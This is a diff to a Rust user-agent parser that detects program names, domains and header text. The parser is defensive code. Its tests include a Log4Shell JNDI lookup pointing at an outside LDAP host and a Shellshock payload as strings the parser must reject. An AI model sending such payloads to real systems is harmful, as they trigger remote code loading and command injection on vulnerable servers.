@@ -4,7 +4,7 @@ use std::sync::LazyLock;
 
 use aho_corasick::AhoCorasick;
 
-use super::people::{any_of, is_of_people, names_a_system};
+use super::people::{any_of, is_browsers_name, is_of_people, names_a_system};
 
 /// What programs do that fetch pages for nobody.
 static WORK: LazyLock<AhoCorasick> = LazyLock::new(|| {
@@ -59,13 +59,17 @@ pub(super) fn tool_word(user_agent: &str) -> Option<&str> {
     })
 }
 
+/// How the comment begins by which a browser on a desk names its system.
+pub(super) const DESKS: [&str; 3] = ["X11", "Macintosh", "Windows NT"];
+
 /// The name in front of all that a browser on a desk says of itself: `PagePreview Mozilla/5.0 (X11; Linux x86_64) …`.
 /// Phones put their own names there.
 pub(super) fn name_before_browser(user_agent: &str) -> Option<&str> {
     let (name, browser) = user_agent.split_once(" Mozilla/5.0 (")?;
-    let on_desk = ["X11", "Macintosh", "Windows NT"].iter().any(|desk| browser.starts_with(desk));
+    let on_desk = DESKS.iter().any(|desk| browser.starts_with(desk));
     let word = name.split([' ', '(']).next()?;
-    let is_header = name.ends_with(':');
+    let letters = name.chars().filter(char::is_ascii_alphabetic).collect::<String>();
+    let is_header = letters.eq_ignore_ascii_case("useragent");
     (on_desk && !is_header && is_name(name) && !is_of_people(name) && !names_a_system(name))
         .then_some(word)
 }
@@ -80,15 +84,14 @@ fn without_mozilla(user_agent: &str) -> (bool, &str) {
 
 /// Whether a text is what a program may call itself: letters above all, and nothing that attacks are made of.
 fn is_name(text: &str) -> bool {
+    const LETTERS_MIN: usize = 3;
     const MARKS: &str = " .,:;-_/+&!'()[]#@%*~=";
     let is_of_names = |c: char| c.is_ascii_alphanumeric() || MARKS.contains(c);
     let letters = text.chars().take_while(|c| *c != '/').filter(char::is_ascii_alphabetic).count();
-    // With a version behind it, two are enough.
-    let letters_min = if text.contains('/') { 2 } else { 3 };
     // Whoever sends a header's name in the header has copied it, as people do too.
     let is_header = text.split_once(": ").is_some();
     text.starts_with(|c: char| c.is_ascii_alphanumeric())
-        && letters >= letters_min
+        && letters >= LETTERS_MIN
         && !is_header
         && text.chars().all(is_of_names)
 }
@@ -101,18 +104,27 @@ pub(super) fn own_name<'t>(user_agent: &'t str, word: &'t str) -> Option<&'t str
     };
     let product = |text: &'t str| {
         let name = text.split('/').next()?.trim_matches(|c: char| !c.is_ascii_alphanumeric());
-        let is_browsers = is_of_people(text) || names_a_system(text) || name == "compatible";
+        let is_browsers = is_browsers_name(name) || name == "compatible";
         let is_name = name.len() > 1 && name.contains(|c: char| c.is_ascii_alphabetic());
         (is_name && !is_browsers).then_some(name)
     };
     if !is_address(word) {
-        return product(word);
+        return product(word).map(|name| phrase(user_agent, name));
     }
     let apart = |c: char| c.is_whitespace() || matches!(c, '(' | ')' | ';' | ',' | '"' | '[' | ']');
     let before = user_agent.find(word).map_or(user_agent, |at| &user_agent[..at]);
     let (is_mozilla, _) = without_mozilla(user_agent);
     let mut products = before.split(apart).filter(|text| !text.is_empty() && !is_address(text));
     if is_mozilla { product(products.next_back()?) } else { product(products.next()?) }
+}
+
+/// What a user agent begins with and a name ends, where that is a name of a few words: `Thing File Downloader/1.0`.
+fn phrase<'t>(user_agent: &'t str, name: &'t str) -> &'t str {
+    const WORDS_MAX: usize = 4;
+    let begin = user_agent.split(['/', '(', ';', ',']).next().unwrap_or(user_agent).trim_end();
+    let is_word = |word: &str| word.starts_with(|c: char| c.is_ascii_uppercase()) && is_name(word);
+    let is_one = begin.ends_with(name) && begin.split(' ').all(is_word);
+    if is_one && begin.split(' ').count() <= WORDS_MAX { begin } else { name }
 }
 
 /// Whether a user agent begins like those of nearly all browsers.
@@ -134,8 +146,8 @@ pub(super) fn is_mail(word: &str) -> bool {
     word.split_once('@').is_some_and(|(name, domain)| !name.is_empty() && is_domain(domain))
 }
 
-/// Whether domains often end so.
-fn is_domains_end(label: &str) -> bool {
+/// Whether it is a common top-level domain.
+fn is_top_level(label: &str) -> bool {
     const ENDS: [&str; 26] = [
         "com", "net", "org", "edu", "gov", "info", "io", "app", "de", "uk", "fr", "it", "nl", "br",
         "cn", "jp", "kr", "ru", "pl", "es", "se", "ch", "at", "au", "ca", "eu",
@@ -151,7 +163,7 @@ pub(super) fn is_domain(word: &str) -> bool {
     let letters = |text: &str| text.chars().all(|c| c.is_ascii_alphabetic());
     (2..=12).contains(&last.len())
         && letters(last)
-        && !(is_domains_end(name.split('.').next().unwrap_or(name)) && !is_domains_end(last))
+        && (is_top_level(last) || !name.split('.').next().is_some_and(is_top_level))
         && before.len() > 1
         && before.contains(|c: char| c.is_ascii_alphabetic())
         && before.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
@@ -185,6 +197,8 @@ mod tests {
             ("Thing 2 (x) Mozilla/5.0 (Windows NT 10.0) Chrome/131.0", Some("Thing")),
             ("LG-D855 Mozilla/5.0 (Linux; Android 6.0; LG-D855) Chrome/38.0", None),
             ("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
+            ("user_agent = Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
+            ("Microsoft Edge Mozilla/5.0 (Windows NT 10.0) Edg/131.0", None),
             ("Mozilla/5.0 (X11; Linux) Firefox/131.0 Mozilla/5.0 (X11; Linux)", None),
             ("Firefox Mozilla/5.0 (X11; Linux x86_64)", None),
             (" Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
@@ -203,7 +217,7 @@ mod tests {
             ("thing/1.0", Some("thing/1.0")),
             ("Some thing 1.0.beta", Some("Some")),
             ("ab", None),
-            ("ab/1.0", Some("ab/1.0")),
+            ("ab/1.0", None),
             ("${jndi:ldap://192.0.2.1/a}", None),
             ("() { :;}; echo x", None),
             ("Accept-Encoding: gzip, deflate", None),
